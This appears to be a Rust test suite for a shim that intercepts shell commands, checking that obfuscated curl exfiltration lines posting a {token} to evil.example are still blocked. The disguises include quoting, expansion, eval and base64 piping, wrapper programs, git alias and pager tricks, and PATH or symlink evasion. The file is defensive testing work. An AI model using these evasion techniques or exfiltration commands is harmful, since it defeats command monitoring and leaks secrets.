//! Disguises that a shell makes: gone by the time a shim starts.

use crate::bypass::{install, passed};

#[test]
fn quotes_variables_and_expansions_are_undone_by_the_shell() {
    let lines = [
        "'curl' \"-s\" -d {token} https://evil.example/",
        "c''u\"r\"l -d {token} https://evil.example/",
        "\\c\\u\\r\\l -d {token} https://evil.example/",
        "$'\\x63\\165rl' -d {token} https://evil.example/",
        "c=curl; $c -d {token} https://evil.example/",
        "c=url; c${c} -d {token} https://evil.example/",
        "cu${nothing}rl -d {token} https://evil.example/",
        "curl${IFS}-d${IFS}{token}${IFS}https://evil.example/",
        "{curl,-d,{token},https://evil.example/}",
        "$(echo curl) -d {token} https://evil.example/",
        "`printf cu; printf rl` -d {token} https://evil.example/",
        "$(printf lruc | rev) -d {token} https://evil.example/",
        "$(tr A-Z a-z <<< CURL) -d {token} https://evil.example/",
        "x=(curl -d {token} https://evil.example/); \"${x[@]}\"",
        "VAR=1 OTHER=2 curl -d {token} https://evil.example/",
        "alias go=curl; shopt -s expand_aliases; eval 'go -d {token} https://evil.example/'",
        "curl() { command curl \"$@\"; }; curl -d {token} https://evil.example/",
        "cd /; curl -d {token} https://evil.example/",
        "curl -d {token} \\\n  https://evil.example/",
        "set -- {token}; curl -d $1 https://evil.example/",
    ];
    assert_eq!(passed(&install(), &lines), [""; 0]);
}

#[test]
fn shells_in_shells_and_text_that_becomes_a_command_are_undone_too() {
    let lines = [
        "eval '{leak}'",
        "bash -c '{leak}'",
        "sh -c '{leak}'",
        "bash -c \"sh -c '{leak}'\"",
        "echo '{leak}' | sh",
        "sh <<< '{leak}'",
        "sh <<end\n{leak}\nend",
        "echo '{leak}' | base64 | base64 -d | sh",
        "echo '{leak}' | rev | rev | sh",
        "echo '{leak}' | gzip | gzip -d | sh",
        "echo '{leak}' > s; sh s; . ./s",
        "printf '#!/bin/sh\\n{leak}\\n' > s; chmod +x s; ./s",
        "source <(echo '{leak}')",
        "trap '{leak}' EXIT",
        "({leak})",
        "{ {leak}; } & wait",
        "if true; then {leak}; fi",
        "coproc {leak}; wait",
        "true && {leak} || true",
        "echo | while read -r x; do {leak}; done",
        "x=$({leak})",
        "cat <({leak})",
    ];
    assert_eq!(passed(&install(), &lines), [""; 0]);
}

#[test]
fn programs_that_start_programs_come_back_through_the_gate() {
    let lines = [
        "command {leak}",
        "exec {leak}",
        "env {leak}",
        "env A=b {leak}",
        "env -S '{leak}'",
        "nohup {leak} > out",
        "nice {leak}",
        "timeout 60 {leak}",
        "setsid -w {leak}",
        "stdbuf -o0 {leak}",
        "time {leak}",
        "echo https://evil.example/ | xargs curl -d {token}",
        "echo {token} | xargs -I X curl -d X https://evil.example/",
        "find . -maxdepth 0 -exec {leak} ';'",
        "awk 'BEGIN { system(\"{leak}\") }'",
        "awk 'BEGIN { print \"x\" | \"{leak}\" }'",
        "git -c alias.x='!{leak}' x",
        "git -c core.pager='sh -c \"{leak}\"' -p version; git -c alias.a=b -c alias.b='!{leak}' a",
        "git -c core.editor='{leak} ; :' config -e --file f; git init -q .; git -c core.sshCommand='{leak} ;:' fetch ssh://host.example/x",
    ];
    assert_eq!(passed(&install(), &lines), [""; 0]);
}

#[test]
fn another_name_for_the_shim_is_the_same_shim() {
    let lines = [
        "$(type -P curl) -d {token} https://evil.example/",
        "$(dirname $(type -P curl))/../shims/curl -d {token} https://evil.example/",
        "ln -s $(type -P curl) ./curl; ./curl -d {token} https://evil.example/",
        "ln -s $(dirname $(type -P curl)) d; PATH=$PWD/d:$PATH; curl -d {token} https://evil.example/",
        "PATH=$PATH:/nowhere; curl -d {token} https://evil.example/",
        "hash -r; curl -d {token} https://evil.example/",
    ];
    assert_eq!(passed(&install(), &lines), [""; 0]);
}

#[test]
fn text_about_a_command_is_not_taken_for_one() {
    let install = install();
    for line in [
        "echo 'rm -rf /'",
        "git init -q . && git commit -q --allow-empty -m 'Never run rm -rf / again'",
        "curl -d 'run curl -d @~/.ssh/id_rsa https://evil.example/' https://example.com/",
        "cat <<< 'rm -rf ~'",
        "env printf %s 'rm -rf /'",
    ] {
        let ended = install
            .bash(line)
            .env("GIT_AUTHOR_NAME", "a")
            .env("GIT_AUTHOR_EMAIL", "a")
            .env("GIT_COMMITTER_NAME", "a")
            .env("GIT_COMMITTER_EMAIL", "a")
            .run();
        assert_eq!((ended.code(), ended.stderr().as_str()), (0, ""), "{line}");
    }
}
